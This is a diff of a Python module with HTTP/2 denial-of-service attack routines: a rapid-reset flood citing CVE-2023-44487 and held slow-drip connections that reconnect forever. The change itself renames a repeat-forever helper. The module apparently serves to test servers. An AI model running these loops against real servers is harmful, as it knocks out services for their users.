@@ -41,7 +41,7 @@ _AGAIN: Final = 0.25
 
 async def resets(target: Target, begun: Begun) -> None:
     """Begin requests and reset them at once (CVE-2023-44487), on one connection after another."""
-    await _again(partial(_reset, target, begun), begun)
+    await again(partial(_reset, target, begun), begun)
 
 
 async def _reset(target: Target, begun: Begun) -> None:
@@ -57,6 +57,15 @@ async def _reset_some(stranger: Stranger) -> None:
         stranger.say(frames.frame(frames.DATA, 0, stream_id, framed(b"")))
         stranger.say(frames.given_up(stream_id))
     await stranger.drained()
+
+
+async def again(attack: Callable[[], Coroutine[Any, Any, None]], begun: Begun) -> None:
+    """Repeat an attack for ever; it has begun also when the connection is refused."""
+    while True:
+        with suppress(OSError):
+            await attack()
+        begun()
+        await asyncio.sleep(_AGAIN)
 
 
 async def headers(target: Target, begun: Begun) -> None:
@@ -98,7 +107,7 @@ async def held(target: Target, begun: Begun) -> None:
 async def held_again(target: Target, begun: Begun) -> None:
     """Hold 400 connections that send nothing, half frames, or a byte at a time, and reconnect for ever."""
     kinds = [*(partial(_hold, target, opening, begun) for opening in _openings()), partial(_drip, target)]
-    await asyncio.gather(*(_again(kind, begun) for kind in islice(cycle(kinds), MANY)))
+    await asyncio.gather(*(again(kind, begun) for kind in islice(cycle(kinds), MANY)))
 
 
 def _openings() -> list[bytes]:
@@ -128,12 +137,3 @@ async def _drip(target: Target) -> None:
         await stranger.pour(stream_id, b"\0")
         await asyncio.sleep(_AGAIN)
     stranger.abort()
-
-
-async def _again(attack: Callable[[], Coroutine[Any, Any, None]], begun: Begun) -> None:
-    """Repeat an attack for ever; it has begun also when the connection is refused."""
-    while True:
-        with suppress(OSError):
-            await attack()
-        begun()
-        await asyncio.sleep(_AGAIN)
